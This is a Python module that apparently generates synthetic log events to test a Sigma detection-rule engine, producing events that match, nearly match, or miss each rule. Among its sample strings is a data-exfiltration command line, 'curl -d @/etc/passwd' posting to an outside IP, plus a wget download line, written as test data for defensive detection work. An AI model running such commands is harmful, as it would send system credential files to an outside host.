"""Events made for Sigma's rules: such as meet them, such as nearly do, and others."""

import random
from collections.abc import Iterator, Sequence

from vedette.agent.sigma.event import Event
from vedette.agent.sigma.tree import (
    TEXT,
    All,
    Any,
    Compare,
    Exists,
    Flag,
    Network,
    Not,
    Null,
    Number,
    Pattern,
    Same,
    Test,
    Text,
    Value,
    Wild,
)
from vedette.agent.sigma.types import SigmaRule

# What meets the regular expressions of SigmaHQ's rules, beginning with how they begin.
FOUND = {
    "(?i)(ipfs": "https://ipfs.io/x.y?joe@example.com",
    "(.){200,}": "x" * 210,
    r"(?:\s-[^-\s]{0,20}i": "ls -lai /",
    r"(?:\s-[^-\s]{0,20}d": "ls -d /",
    "-(W|R)": "dbus -W '41 42 43 44 '",
    "-D": "x -D 1",
    r"\s-O\s": "wget -O /tmp/x",
    r"\s-[FTd]\s": "curl -d @/etc/passwd http://192.0.2.1/",
    r"(^|\/)\.[^.\/]": "/home/x/.hidden",
}
FILLERS = ("", "", "a", "x y", "/usr/bin/", "%", "_", "\\", "'", "日", "é", "*", "?", "[x]", " -n 5")


class Maker:
    """Makes events by chance, the same ones for the same seed."""

    def __init__(self, rules: Sequence[SigmaRule], seed: int) -> None:
        self.rules = rules
        self.chance = random.Random(seed)
        self.fields = sorted({field for rule in rules for field in fields_of(rule.test)} - {TEXT})

    def events(self, each: int, others: int) -> Iterator[Event]:
        for rule in self.rules:
            for number in range(each):
                event = self.meeting(rule.test)
                yield event if number % 3 == 0 else self.near(event)
        for _ in range(others):
            names = self.chance.sample(self.fields, 4)
            yield self._event({name: self._word() for name in names}, self._word())

    def meeting(self, test: Test) -> Event:
        values: dict[str, Value] = {}
        self._meet(test, values)
        text = str(values.pop(TEXT, "")) or self._word()
        return self._event(values, text)

    def near(self, event: Event) -> Event:
        values, text = dict(event.values), event.text
        for _ in range(self.chance.choice((1, 1, 2))):
            name = self.chance.choice([TEXT, *values])
            if name == TEXT:
                text = self._bent(text) or ""
            else:
                values[name] = self._bent(str(values[name]))
        return self._event(
            {name: value for name, value in values.items() if value is not None}, text, joined=False
        )

    def _event(self, values: dict[str, Value], text: str, *, joined: bool = True) -> Event:
        whole = " ".join([text, *(str(value) for value in values.values())]) if joined else text
        return Event(values, whole)

    def _bent(self, text: str) -> str | None:
        chance, at = self.chance, self.chance.randrange(len(text) + 1)
        return chance.choice((
            lambda: text[:at] + text[at + 1 :], lambda: text[:at] + chance.choice("x/ %_\\'?*") + text[at + 1 :],
            lambda: text[:at] + self._word() + text[at:], text.swapcase, lambda: text + chance.choice("x /"),
            lambda: chance.choice("x /") + text, lambda: "", lambda: None, lambda: text[at:], lambda: text[:at],
        ))()  # fmt: skip

    def _word(self) -> str:
        literal = (
            self.chance.choice(self._literals) if self.chance.random() < 0.7 else self.chance.choice(FILLERS)
        )
        return self.chance.choice(FILLERS) + literal

    @property
    def _literals(self) -> Sequence[str]:
        if not hasattr(self, "_found"):
            self._found = sorted({text for rule in self.rules for text in literals_of(rule.test)} or {"x"})
        return self._found

    def _meet(self, test: Test, values: dict[str, Value]) -> None:  # noqa: C901, PLR0912
        match test:
            case All(parts=parts):
                for part in parts:
                    self._meet(part, values)
            case Any(parts=parts):
                self._meet(self.chance.choice(parts), values)
            case Not(part=part):
                if self.chance.random() < 0.15:
                    self._meet(part, values)
            case Text():
                self._text(test, values)
            case Number(field=field, value=value):
                values[field] = str(int(value)) if value.is_integer() else str(value)
            case Flag(field=field, value=value):
                values[field] = self.chance.choice(("true", "1") if value else ("false", "0"))
            case Null(field=field):
                values.pop(field, None)
            case Exists(field=field, wanted=wanted):
                if wanted:
                    values.setdefault(field, self._word())
                else:
                    values.pop(field, None)
            case Pattern(field=field, pattern=pattern):
                values[field] = f"{values.get(field, '')} " + next(
                    (text for start, text in FOUND.items() if pattern.startswith(start)), self._word()
                )
            case Network(field=field, cidr=cidr):
                values[field] = cidr.partition("/")[0]
            case Compare(field=field, operator=sign, value=value):
                values[field] = value + (
                    self.chance.choice((0, 1)) if ">" in sign else -self.chance.choice((0, 1))
                )
            case Same(field=field, other=other):
                values[field] = values.setdefault(other, self._word())

    def _text(self, test: Text, values: dict[str, Value]) -> None:
        text = "".join(
            piece if isinstance(piece, str) else "x" if piece is Wild.ONE else self.chance.choice(FILLERS)
            for piece in test.pieces
        )
        if self.chance.random() < 0.3:
            text = self.chance.choice((text.upper(), text.swapcase(), text.lower()))
        old = str(values.get(test.field, ""))
        front, back = test.pieces[:1] == (Wild.MANY,), test.pieces[-1:] == (Wild.MANY,)
        if not old or not (front or back):
            values[test.field] = f"{old} {text}" if test.field == TEXT else text
        else:
            values[test.field] = text + old if back and not front else old + text


def fields_of(test: Test) -> Iterator[str]:
    if isinstance(test, All | Any):
        for part in test.parts:
            yield from fields_of(part)
    elif isinstance(test, Not):
        yield from fields_of(test.part)
    else:
        yield test.field
        if isinstance(test, Same):
            yield test.other


def literals_of(test: Test) -> Iterator[str]:
    if isinstance(test, All | Any):
        for part in test.parts:
            yield from literals_of(part)
    elif isinstance(test, Not):
        yield from literals_of(test.part)
    elif isinstance(test, Text):
        yield from (piece for piece in test.pieces if isinstance(piece, str))
